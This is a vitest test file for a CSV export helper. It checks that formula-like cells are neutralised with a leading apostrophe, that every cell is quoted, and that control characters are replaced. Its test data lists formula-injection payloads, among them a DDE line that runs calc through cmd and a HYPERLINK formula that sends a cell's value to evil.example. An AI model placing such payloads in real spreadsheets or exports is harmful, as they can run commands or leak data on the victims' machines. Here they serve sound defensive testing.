import { describe, expect, test } from 'vitest'
import { csvHead, csvRow } from '../../src/lib/csv.ts'
import { readCsv } from '../support/csv-reader.ts'

const hostile = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tharmless',
  'harmless'.padStart(9, '\n'),
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
  '﹣1',
  '−1',
  '   =1+1',
  '\u3000＝1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  '“=1+1',
  '＂＝1+1',
  ' " =HYPERLINK("https://evil.example?"&A1)',
]

const harmless = [
  'Alice',
  '山田 太郎',
  'a=b',
  '1+1',
  'O’Hara',
  '"quoted"',
  'a,b;c',
  'two\r\nlines',
  '',
  '2027-01-15',
  "'",
]

describe('a cell of a CSV file', () => {
  test.each(hostile)('that a spreadsheet would run as a formula is text: %j', cell => {
    const [row] = readCsv(csvRow([cell, 'next']))

    expect(row).toEqual([`'${cell}`, 'next'])
  })

  test.each(harmless)('that holds no formula comes out as it went in: %j', cell => {
    const [row] = readCsv(csvRow([cell, 'next']))

    expect(row).toEqual([cell, 'next'])
  })

  test('is quoted whatever it holds, so that neither a comma nor a semicolon nor a line break begins a new one', () => {
    const text = csvRow(['a,b', 'c;d', 'e\r\n=f', 'g"h', 7, true, null])

    expect(text).toBe('"a,b","c;d","e\r\n=f","g""h","7","true",""\r\n')
  })

  test('is whole UTF-8, and holds nothing that ends a text or that a terminal obeys', () => {
    expect(csvRow(['a\u0000b', 'c\ud800d', '\u001b[31m\u009b31m'])).toBe(
      '"a\ufffdb","c\ufffdd","\ufffd[31m\ufffd31m"\r\n',
    )
  })
})

test('a file begins with the mark of UTF-8 and its columns', () => {
  expect(csvHead(['E-mail', '名前'])).toBe('\ufeff"E-mail","名前"\r\n')
})
